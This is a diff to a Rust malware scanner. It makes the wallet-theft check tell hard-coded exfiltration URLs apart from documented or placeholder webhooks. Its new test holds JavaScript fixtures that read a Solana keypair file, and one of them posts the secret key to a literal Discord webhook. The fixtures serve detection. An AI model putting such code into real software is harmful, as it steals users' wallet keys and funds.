@@ -120,6 +120,24 @@ fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
     None
 }
 
+/// An exfiltration endpoint written into the code, not one documented in a comment or shown
+/// as a placeholder (`https://discord.com/api/webhooks/<id>/<token>`, `…/YOUR_WEBHOOK`): a bot
+/// that reads its webhook from the environment and says so in a comment sends nothing
+/// anywhere its owner did not choose.
+fn live_endpoint(data: &[u8], pos: usize) -> bool {
+    let (_, line) = window(data, pos, 400, 0);
+    if comment_line(line) {
+        return false;
+    }
+    let rest = &data[pos..(pos + 120).min(data.len())];
+    let url_end = rest
+        .iter()
+        .position(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b')'))
+        .unwrap_or(rest.len());
+    let url = &rest[..url_end];
+    !(contains(url, "<") || contains(url, "YOUR") || contains(url, "xxx"))
+}
+
 /// Wallet-file anchors that really are paths (`/id.json`, `"id.json"`), not `grid.json`.
 fn wallet_read(data: &[u8], hits: &[(Sig, usize)]) -> Option<(usize, bool)> {
     for &(_, pos) in hits.iter().filter(|(s, _)| *s == Sig::WalletPath) {
@@ -155,13 +173,15 @@ pub fn evaluate_file(
     let ln = |pos: usize| line_of(data, pos);
 
     // --- Wallet theft: secret material read + sent somewhere an attacker controls.
-    let hard_exfil = hits
-        .iter()
-        .find(|(s, p)| *s == Sig::Exfil && !data[*p..].starts_with(b"api.telegram.org"))
+    let endpoints = || {
+        hits.iter()
+            .filter(|(s, p)| *s == Sig::Exfil && live_endpoint(data, *p))
+    };
+    let hard_exfil = endpoints()
+        .find(|(_, p)| !data[*p..].starts_with(b"api.telegram.org"))
         .map(|(_, p)| *p);
-    let telegram = hits
-        .iter()
-        .find(|(s, p)| *s == Sig::Exfil && data[*p..].starts_with(b"api.telegram.org"))
+    let telegram = endpoints()
+        .find(|(_, p)| data[*p..].starts_with(b"api.telegram.org"))
         .map(|(_, p)| *p);
     let raw_ip = if c(Sig::RawIpUrl) + c(Sig::NetworkUse) > 0 {
         raw_public_ip(data, hits)
@@ -354,6 +374,19 @@ mod tests {
             .scan_file(&f, &mut bin)
             .map(|s| s.scam)
             .unwrap_or_default()
+    }
+
+    #[test]
+    fn documented_webhook_is_not_an_exfiltration_endpoint() {
+        let read = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(os.homedir() + '/.config/solana/id.json'))));\n";
+        let documented = format!("{read}const WEBHOOK = process.env.DISCORD_WEBHOOK_URL; // e.g. https://discord.com/api/webhooks/<id>/<token>\nawait fetch(WEBHOOK, {{ method: 'POST', body }});");
+        assert!(scan("bot.js", &documented).is_empty());
+        let placeholder = format!("{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';");
+        assert!(scan("bot.js", &placeholder).is_empty());
+        let literal = format!("{read}await fetch('https://discord.com/api/webhooks/0929492818498669608/5sRl0eKENteAJz', {{ method: 'POST', body: kp.secretKey }});");
+        assert!(scan("bot.js", &literal)
+            .iter()
+            .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical));
     }
 
     #[test]
